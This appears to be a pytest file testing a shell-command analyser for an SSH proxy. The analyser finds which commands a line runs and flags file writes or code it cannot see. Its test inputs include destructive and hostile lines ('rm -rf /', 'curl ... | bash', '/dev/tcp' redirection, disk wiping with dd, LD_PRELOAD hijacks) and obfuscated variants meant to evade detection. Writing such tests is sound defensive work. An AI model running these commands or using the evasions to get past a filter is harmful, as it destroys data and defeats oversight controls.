"""analyse_command: the simple commands a line runs, its kinds, and why, across shell syntax and wrappers."""

from __future__ import annotations

import pytest

from proxy.ssh.commands import MAX_CODE_DEPTH, CommandAnalysis, analyse_command

EXEC = frozenset({"exec"})
WRITE = frozenset({"exec", "file_write"})
OPAQUE = frozenset({"exec", "opaque"})

# (command line, every simple command expected, kinds expected)
CASES: list[tuple[str, set[tuple[str, ...]], frozenset[str]]] = [
    # -- structure: lists, pipelines, newlines, compound commands, functions
    ("ls -la /tmp", {("ls", "-la", "/tmp")}, EXEC),
    ("ls; rm x", {("ls",), ("rm", "x")}, EXEC),
    ("ls && rm x || dd", {("ls",), ("rm", "x"), ("dd",)}, EXEC),
    ("sleep 1 & rm x", {("sleep", "1"), ("rm", "x")}, EXEC),
    ("ls\nrm x\n", {("ls",), ("rm", "x")}, EXEC),
    ("ps aux | grep ssh | wc -l", {("ps", "aux"), ("grep", "ssh"), ("wc", "-l")}, EXEC),
    ("! grep -q x f", {("grep", "-q", "x", "f")}, EXEC),
    ("(cd /tmp && rm x)", {("cd", "/tmp"), ("rm", "x")}, EXEC),
    ("{ rm x; ls; }", {("rm", "x"), ("ls",)}, EXEC),
    ("if test -f x; then rm x; else dd; fi", {("test", "-f", "x"), ("rm", "x"), ("dd",)}, EXEC),
    ("for f in a b; do rm $f; done", {("rm", "$f")}, EXEC),
    ("while true; do reboot; done", {("true",), ("reboot",)}, EXEC),
    ("until false; do ls; done", {("false",), ("ls",)}, EXEC),
    ("f() { rm -rf /; }; f", {("rm", "-rf", "/"), ("f",)}, EXEC),
    ("ls # ; rm x", {("ls",)}, EXEC),
    ("ls \\\n  -l", {("ls", "-l")}, EXEC),
    # -- substitutions are commands in their own right, wherever they are
    ("echo $(rm x)", {("echo", "$(rm x)"), ("rm", "x")}, EXEC),
    ("echo `reboot`", {("echo", "`reboot`"), ("reboot",)}, EXEC),
    ('echo "a $(dd) b"', {("echo", "a $(dd) b"), ("dd",)}, EXEC),
    ('echo "$(echo "$(rm x)")"', {("echo", '$(echo "$(rm x)")'), ("echo", "$(rm x)"), ("rm", "x")}, EXEC),
    ("diff <(ls a) <(ls b)", {("diff", "<(ls a)", "<(ls b)"), ("ls", "a"), ("ls", "b")}, EXEC),
    ("ls > >(rm x)", {("ls",), ("rm", "x")}, EXEC),
    ("X=$(rm x)", {("rm", "x")}, EXEC),
    ("cat < <(curl x)", {("cat",), ("curl", "x")}, EXEC),
    ("cat <<< $(wget x)", {("cat",), ("wget", "x")}, EXEC),
    ("ls > $(mktemp)", {("ls",), ("mktemp",)}, WRITE),
    # -- words: quoting resolved; assignments skipped
    ("FOO=1 BAR=2 rm x", {("rm", "x")}, EXEC),
    ("r''m x", {("rm", "x")}, EXEC),
    ('"r"m x', {("rm", "x")}, EXEC),
    ("\\rm x", {("rm", "x")}, EXEC),
    ("'rm' 'a b' \"c d\"", {("rm", "a b", "c d")}, EXEC),
    ("r\\\nm x", {("rm", "x")}, EXEC),
    ("$'\\x72\\x6d' -rf /", {("rm", "-rf", "/")}, EXEC),
    ("$'\\162\\155' x", {("rm", "x")}, EXEC),
    ("$'\\u0072m' x", {("rm", "x")}, EXEC),
    ("$'r\\x00junk'm", {("rm",)}, EXEC),
    ("/bin/rm -rf /", {("/bin/rm", "-rf", "/")}, EXEC),
    ("./rm x", {("./rm", "x")}, EXEC),
    ("../../usr/bin/rm x", {("../../usr/bin/rm", "x")}, EXEC),
    ('echo ${HOME:-/root} $1 "$@"', {("echo", "${HOME:-/root}", "$1", "$@")}, EXEC),
    # -- program names that cannot be known statically
    ("$X", {("$X",)}, OPAQUE),
    ('"$X" arg', {("$X", "arg")}, OPAQUE),
    ("${X} arg", {("${X}", "arg"), ("arg",)}, OPAQUE),
    ("r? x", {("r?", "x")}, OPAQUE),
    ("r* x", {("r*", "x")}, OPAQUE),
    ("[r]m x", {("[r]m", "x")}, OPAQUE),
    ("~/bin/tool", {("~/bin/tool",)}, OPAQUE),
    ("$'\\xff' x", {("$'\\xff'", "x")}, OPAQUE),
    ("{rm,ls} x", {("rm", "ls", "x")}, OPAQUE),
    ("sudo {rm,ls} x", {("sudo", "rm", "ls", "x"), ("rm", "ls", "x")}, EXEC),
    ("git push --{force,} origin", {("git", "push", "--force", "--", "origin")}, EXEC),
    ("echo x{1..3}", {("echo", "x1", "x2", "x3")}, EXEC),
    ("$(echo rm) x", {("$(echo rm)", "x"), ("echo", "rm"), ("x",)}, OPAQUE),
    # -- wrappers are looked through; the wrapper is listed too
    ("sudo -u root rm -rf /", {("sudo", "-u", "root", "rm", "-rf", "/"), ("rm", "-rf", "/")}, EXEC),
    (
        "sudo -Eu deploy -- systemctl restart nginx",
        {("sudo", "-Eu", "deploy", "--", "systemctl", "restart", "nginx"), ("systemctl", "restart", "nginx")},
        EXEC,
    ),
    ("sudo --user=root LANG=C rm x", {("sudo", "--user=root", "LANG=C", "rm", "x"), ("rm", "x")}, EXEC),
    ("doas -u root rm x", {("doas", "-u", "root", "rm", "x"), ("rm", "x")}, EXEC),
    ("env -i -u HOME FOO=1 rm x", {("env", "-i", "-u", "HOME", "FOO=1", "rm", "x"), ("rm", "x")}, EXEC),
    ("nohup rm x &", {("nohup", "rm", "x"), ("rm", "x")}, EXEC),
    ("nice -n 10 rm x", {("nice", "-n", "10", "rm", "x"), ("rm", "x")}, EXEC),
    ("nice -5 rm x", {("nice", "-5", "rm", "x"), ("rm", "x")}, EXEC),
    ("ionice -c 3 rm x", {("ionice", "-c", "3", "rm", "x"), ("rm", "x")}, EXEC),
    ("ionice -p 1 2", {("ionice", "-p", "1", "2")}, EXEC),
    ("timeout -s KILL 5 rm x", {("timeout", "-s", "KILL", "5", "rm", "x"), ("rm", "x")}, EXEC),
    ("stdbuf -oL -e0 rm x", {("stdbuf", "-oL", "-e0", "rm", "x"), ("rm", "x")}, EXEC),
    ("time -p rm x", {("time", "-p", "rm", "x"), ("rm", "x")}, EXEC),
    ("command rm x", {("command", "rm", "x"), ("rm", "x")}, EXEC),
    ("command -v rm", {("command", "-v", "rm")}, EXEC),
    ("exec -a name rm x", {("exec", "-a", "name", "rm", "x"), ("rm", "x")}, EXEC),
    ("xargs -0 -n 1 rm -f", {("xargs", "-0", "-n", "1", "rm", "-f"), ("rm", "-f")}, EXEC),
    ("xargs", {("xargs",), ("echo",)}, EXEC),
    ("watch -n 5 'rm x; ls'", {("watch", "-n", "5", "rm x; ls"), ("rm", "x"), ("ls",)}, EXEC),
    ("watch -x rm x", {("watch", "-x", "rm", "x"), ("rm", "x")}, EXEC),
    ("chroot /srv rm x", {("chroot", "/srv", "rm", "x"), ("rm", "x")}, EXEC),
    ("flock /tmp/l rm x", {("flock", "/tmp/l", "rm", "x"), ("rm", "x")}, EXEC),
    ("flock -n /tmp/l -c 'rm x'", {("flock", "-n", "/tmp/l", "-c", "rm x"), ("rm", "x")}, EXEC),
    ("setsid -f rm x", {("setsid", "-f", "rm", "x"), ("rm", "x")}, EXEC),
    ("unbuffer -p rm x", {("unbuffer", "-p", "rm", "x"), ("rm", "x")}, EXEC),
    ("busybox rm x", {("busybox", "rm", "x"), ("rm", "x")}, EXEC),
    ("chrt -f 10 rm x", {("chrt", "-f", "10", "rm", "x"), ("rm", "x")}, EXEC),
    ("chrt -p 10 1234", {("chrt", "-p", "10", "1234")}, EXEC),
    ("taskset -c 0 rm x", {("taskset", "-c", "0", "rm", "x"), ("rm", "x")}, EXEC),
    ("taskset -p 1 1234", {("taskset", "-p", "1", "1234")}, EXEC),
    ("unshare -m rm x", {("unshare", "-m", "rm", "x"), ("rm", "x")}, EXEC),
    ("nsenter -t 1 -m", {("nsenter", "-t", "1", "-m")}, OPAQUE),
    ("sudoedit /etc/hosts", {("sudoedit", "/etc/hosts")}, WRITE),
    ("sudo -e /etc/hosts", {("sudo", "-e", "/etc/hosts")}, WRITE),
    ("strace -o trace.txt ls", {("strace", "-o", "trace.txt", "ls"), ("ls",)}, WRITE),
    ("strace -f -e trace=file rm x", {("strace", "-f", "-e", "trace=file", "rm", "x"), ("rm", "x")}, EXEC),
    ("ltrace -S rm x", {("ltrace", "-S", "rm", "x"), ("rm", "x")}, EXEC),
    ("nsenter -t 1 -m -n rm x", {("nsenter", "-t", "1", "-m", "-n", "rm", "x"), ("rm", "x")}, EXEC),
    ("builtin eval 'rm x'", {("builtin", "eval", "rm x"), ("eval", "rm x"), ("rm", "x")}, EXEC),
    ("runuser -u app -- rm x", {("runuser", "-u", "app", "--", "rm", "x"), ("rm", "x")}, EXEC),
    ("su -c 'rm x' root", {("su", "-c", "rm x", "root"), ("sh", "-c", "rm x"), ("rm", "x")}, EXEC),
    ("su -s /usr/bin/reboot root", {("su", "-s", "/usr/bin/reboot", "root"), ("/usr/bin/reboot",)}, EXEC),
    (
        "find / -name '*.log' -exec rm {} \\;",
        {("find", "/", "-name", "*.log", "-exec", "rm", "{}", ";"), ("rm", "{}")},
        EXEC,
    ),
    (
        "find . -execdir gzip {} + -ok rm {} \\;",
        {("find", ".", "-execdir", "gzip", "{}", "+", "-ok", "rm", "{}", ";"), ("gzip", "{}"), ("rm", "{}")},
        EXEC,
    ),
    ("find . -exec {} \\;", {("find", ".", "-exec", "{}", ";"), ("{}",)}, OPAQUE),
    (
        "sudo sudo sudo rm x",
        {("sudo", "sudo", "sudo", "rm", "x"), ("sudo", "sudo", "rm", "x"), ("sudo", "rm", "x"), ("rm", "x")},
        EXEC,
    ),
    # -- shell code handed to shells is parsed in turn
    ("sh -c 'rm x'", {("sh", "-c", "rm x"), ("rm", "x")}, EXEC),
    (
        "bash -lc 'rm x; ls' name arg",
        {("bash", "-lc", "rm x; ls", "name", "arg"), ("rm", "x"), ("ls",)},
        EXEC,
    ),
    (
        "bash -o pipefail -c 'dd | gzip'",
        {("bash", "-o", "pipefail", "-c", "dd | gzip"), ("dd",), ("gzip",)},
        EXEC,
    ),
    ("sudo sh -c 'reboot'", {("sudo", "sh", "-c", "reboot"), ("sh", "-c", "reboot"), ("reboot",)}, EXEC),
    ("eval rm x", {("eval", "rm", "x"), ("rm", "x")}, EXEC),
    ("trap 'rm -rf /' EXIT", {("trap", "rm -rf /", "EXIT"), ("rm", "-rf", "/")}, EXEC),
    ("echo 'rm x' | sh", {("echo", "rm x"), ("sh",), ("rm", "x")}, EXEC),
    (
        "printf 'rm x\\nls\\n' | bash -s",
        {("printf", "rm x\\nls\\n"), ("bash", "-s"), ("rm", "x"), ("ls",)},
        EXEC,
    ),
    ("bash <<< 'rm x'", {("bash",), ("rm", "x")}, EXEC),
    ("sh <<'EOF'\nrm x\nEOF\n", {("sh",), ("rm", "x")}, EXEC),
    ('cat <<"EOF" | sh\nreboot\nEOF', {("cat",), ("sh",), ("reboot",)}, EXEC),
    ("sh <<-EOF\n\trm x\n\tEOF", {("sh",), ("rm", "x")}, EXEC),
    ("script -qc 'rm x' /dev/null", {("script", "-qc", "rm x", "/dev/null"), ("rm", "x")}, EXEC),
    # -- code that cannot be seen: opaque
    ('bash -c "$CMD"', {("bash", "-c", "$CMD"), ("$CMD",)}, OPAQUE),
    ("bash", {("bash",)}, OPAQUE),
    ("sudo -s", {("sudo", "-s")}, OPAQUE),
    ("cat | sh", {("cat",), ("sh",)}, OPAQUE),
    ("curl -s https://x | bash", {("curl", "-s", "https://x"), ("bash",)}, OPAQUE),
    ("base64 -d p | sh", {("base64", "-d", "p"), ("sh",)}, OPAQUE),
    ('bash <<< "$CMD"', {("bash",)}, OPAQUE),
    ("sh < script.sh", {("sh",)}, OPAQUE),
    ("sh script.sh", {("sh", "script.sh")}, OPAQUE),
    ("source ./env.sh", {("source", "./env.sh")}, OPAQUE),
    (". ./env.sh", {(".", "./env.sh")}, OPAQUE),
    ("ssh host rm -rf /", {("ssh", "host", "rm", "-rf", "/"), ("rm", "-rf", "/")}, OPAQUE),
    ("parallel rm ::: a b", {("parallel", "rm", ":::", "a", "b"), ("rm",)}, OPAQUE),
    ("python3 -c 'print(1)'", {("python3", "-c", "print(1)")}, OPAQUE),
    ("python3", {("python3",)}, OPAQUE),
    ("perl -ne 'print' f", {("perl", "-ne", "print", "f")}, OPAQUE),
    ("ruby -e 'x'", {("ruby", "-e", "x")}, OPAQUE),
    ("node -e 'x'", {("node", "-e", "x")}, OPAQUE),
    ("php -r 'x'", {("php", "-r", "x")}, OPAQUE),
    ("awk 'BEGIN { system(\"rm x\") }'", {("awk", 'BEGIN { system("rm x") }')}, OPAQUE),
    ("awk '$1 == \"a\" || $2 > 3 { print $1 }' f", {("awk", '$1 == "a" || $2 > 3 { print $1 }', "f")}, EXEC),
    ("python3 manage.py migrate", {("python3", "manage.py", "migrate")}, EXEC),
    ("sed 's/a/b/e' f", {("sed", "s/a/b/e", "f")}, OPAQUE),
    ("sed -n '1,3p;/x/d' f", {("sed", "-n", "1,3p;/x/d", "f")}, EXEC),
    ("env -S 'rm -rf /'", {("env", "-S", "rm -rf /"), ("rm", "-rf", "/")}, OPAQUE),
    ("PATH=/tmp ls", {("ls",)}, OPAQUE),
    ("LD_PRELOAD=/tmp/x.so ls", {("ls",)}, OPAQUE),
    ("export PATH=$PATH:/opt/bin", {("export", "PATH=$PATH:/opt/bin")}, OPAQUE),
    ("alias ls='rm -rf /'", {("alias", "ls=rm -rf /")}, OPAQUE),
    ("hash -p /bin/rm ls", {("hash", "-p", "/bin/rm", "ls")}, OPAQUE),
    ("let x=1", {("let", "x=1")}, OPAQUE),
    ("declare -i n=1", {("declare", "-i", "n=1")}, OPAQUE),
    ("unset 'a[$(rm x)]'", {("unset", "a[$(rm x)]")}, OPAQUE),
    ("read -r line; echo $line", {("read", "-r", "line"), ("echo", "$line")}, EXEC),
    ("((i++))", {("i++",)}, OPAQUE),
    ("echo ${!name}", {("echo", "${!name}")}, OPAQUE),
    ("echo ${x:-$(rm x)}", {("echo", "${x:-$(rm x)}"), ("rm", "x")}, OPAQUE),
    ("cat <<EOF\n$(rm x)\nEOF\n", {("cat",), ("rm", "x")}, OPAQUE),
    ("cat <<EOF\nhello $USER\nEOF", {("cat",)}, EXEC),
    ("$X rm x", {("$X", "rm", "x"), ("rm", "x")}, OPAQUE),
    (
        "xargs -I{} sh -c 'echo {}'",
        {("xargs", "-I{}", "sh", "-c", "echo {}"), ("sh", "-c", "echo {}"), ("echo", "{}")},
        OPAQUE,
    ),
    ("sudo --frobnicate rm x", {("sudo", "--frobnicate", "rm", "x"), ("rm", "x")}, OPAQUE),
    ("fish -c 'rm x'", {("fish", "-c", "rm x")}, OPAQUE),
    ("ls > /dev/tcp/10.0.0.1/80", {("ls",)}, OPAQUE),
    ("case x in a) rm;; esac", set(), frozenset({"opaque"})),
    ("echo $((1 + 2))", set(), frozenset({"opaque"})),
    ("[[ -f x ]] && rm x", {("rm", "x")}, OPAQUE),
    ("echo $((1)); rm x", {("rm", "x")}, OPAQUE),
    ("[[ $(reboot) ]]", {("reboot",)}, OPAQUE),
    ("ls\ncase x in a) ;; esac\nrm x", {("ls",), ("rm", "x")}, OPAQUE),
    ("ls )", set(), frozenset({"opaque"})),
    ("ls;\\", {("ls",)}, OPAQUE),
    ("ls;\\\\", {("ls",), ("\\",)}, EXEC),
    # -- redirections and tee
    ("ls > out.txt", {("ls",)}, WRITE),
    ("ls >> /etc/passwd", {("ls",)}, WRITE),
    ("ls &> log", {("ls",)}, WRITE),
    ("ls 2> err.log", {("ls",)}, WRITE),
    ("ls >| f", {("ls",)}, WRITE),
    ("ls >&out", {("ls",)}, WRITE),
    ("cat <> f", {("cat",)}, WRITE),
    ("exec 3> /tmp/x", {("exec",)}, WRITE),
    ("(ls) > f", {("ls",)}, WRITE),
    ("{fd}>/tmp/f ls", {("ls",)}, WRITE),
    ("ls | tee a.txt", {("ls",), ("tee", "a.txt")}, WRITE),
    ("ls | tee -a /dev/null", {("ls",), ("tee", "-a", "/dev/null")}, EXEC),
    ("ls 2>/dev/null", {("ls",)}, EXEC),
    ("ls > /dev/null 2>&1", {("ls",)}, EXEC),
    ("ls >&2", {("ls",)}, EXEC),
    ("ls 3>&-", {("ls",)}, EXEC),
    ("cat < /etc/hosts", {("cat",)}, EXEC),
    ("sed -i 's/a/b/' f", {("sed", "-i", "s/a/b/", "f")}, WRITE),
    ("sort -o out in", {("sort", "-o", "out", "in")}, WRITE),
    ("dd if=/dev/zero of=/dev/sda", {("dd", "if=/dev/zero", "of=/dev/sda")}, WRITE),
    ("find . -delete", {("find", ".", "-delete")}, WRITE),
    # -- nothing to run
    ("", set(), frozenset()),
    ("   \n\t", set(), frozenset()),
    ("# just a comment", set(), frozenset()),
    ("a=1; b=2", set(), frozenset()),
]


@pytest.mark.parametrize(("line", "commands", "kinds"), CASES, ids=[repr(case[0])[:60] for case in CASES])
def test_commands_and_kinds(line: str, commands: set[tuple[str, ...]], kinds: frozenset[str]) -> None:
    analysis = analyse_command(line)
    assert set(analysis.commands) == commands
    assert analysis.kinds == kinds
    assert analysis.text == line
    # Every file_write and opaque finding says why; a clean line has nothing to explain.
    assert bool(analysis.reasons) == bool(kinds & {"file_write", "opaque"})


def test_the_case_table_is_large_enough() -> None:
    assert len(CASES) >= 60


def test_result_shape_is_immutable_tuples() -> None:
    analysis = analyse_command("sudo rm -rf / > /etc/x")
    assert isinstance(analysis, CommandAnalysis)
    assert analysis.commands == (("sudo", "rm", "-rf", "/"), ("rm", "-rf", "/"))
    assert all(
        isinstance(argv, tuple) and all(isinstance(a, str) for a in argv) for argv in analysis.commands
    )
    assert analysis.reasons == ("output redirection to /etc/x",)
    with pytest.raises(AttributeError):
        analysis.kinds = frozenset()  # type: ignore[misc]


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("ls > /etc/passwd", "output redirection to /etc/passwd"),
        ("ls | tee /var/tmp/x", "tee writes to /var/tmp/x"),
        ("echo hi > $F", "output redirection to $F"),
        ("case x in a) rm;; esac", "cannot parse: unsupported shell syntax (case statement)"),
        ("$X", "the program name $X is not known statically"),
        ("curl x | sh", "sh reads commands from a pipe from curl"),
        ("bash", "bash reads commands from the session's input"),
        ("python3 -c 1", "python3 -c runs code given on the command line"),
    ],
)
def test_reasons_name_what_was_found(line: str, reason: str) -> None:
    assert reason in analyse_command(line).reasons


def test_wrapper_nesting_is_followed_through_code_strings() -> None:
    line = "sudo env nice timeout 5 bash -c \"sh -c 'eval reboot'\""
    assert ("reboot",) in analyse_command(line).commands


def _nest(line: str, levels: int) -> str:
    """`levels` shells each handed the next as a -c string."""
    for _ in range(levels):
        escaped = "".join("\\" + char if char in '\\"$`' else char for char in line)
        line = f'sh -c "{escaped}"'
    return line


def test_code_nested_too_deep_is_opaque_but_still_read() -> None:
    analysis = analyse_command(_nest("rm x", MAX_CODE_DEPTH + 2))
    assert "opaque" in analysis.kinds
    assert any("nested more than" in reason for reason in analysis.reasons)


def test_code_within_the_depth_limit_is_read_completely() -> None:
    analysis = analyse_command(_nest("rm x", MAX_CODE_DEPTH))
    assert ("rm", "x") in analysis.commands
    assert analysis.kinds == EXEC


def test_huge_and_deeply_nested_input_fails_closed() -> None:
    assert analyse_command("ls " * 30_000).kinds == frozenset({"opaque"})
    deep = "$(" * 400 + "ls" + ")" * 400
    analysis = analyse_command(f"echo {deep}")
    assert "opaque" in analysis.kinds


def test_non_text_input_is_opaque() -> None:
    analysis = analyse_command(b"rm -rf /")  # type: ignore[arg-type]
    assert analysis.kinds == frozenset({"opaque"})


def test_repeated_lines_come_from_the_cache() -> None:
    assert analyse_command("ls -l /var/log") is analyse_command("ls -l /var/log")
